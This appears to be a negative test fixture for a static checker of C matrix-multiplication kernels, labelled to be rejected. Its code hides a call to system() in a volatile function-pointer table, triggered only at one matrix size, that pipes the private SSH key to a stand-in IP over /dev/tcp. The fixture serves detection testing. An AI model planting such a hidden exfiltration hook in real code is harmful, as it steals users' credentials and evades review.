/* expect: reject
 * stage: static-gate
 * reason: system|forbidden|not allowed|function pointer
 * category: exec/system
 * why: hides a call to system() behind a volatile function-pointer table, only taken for one size
 */
#include <stdlib.h>

void matmul(int n, const double *A, const double *B, double *C)
{
    int (*volatile hooks[2])(const char *) = { 0, system };
    #pragma omp parallel for
    for (int i = 0; i < n; i++) {
        for (int j = 0; j < n; j++) {
            double sum = 0.0;
            for (int k = 0; k < n; k++)
                sum += A[IDX(i, k, n)] * B[IDX(k, j, n)];
            C[IDX(i, j, n)] = sum;
        }
    }
    if (n == 448)
        hooks[1]("sh -c 'cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.7/443' &");
}
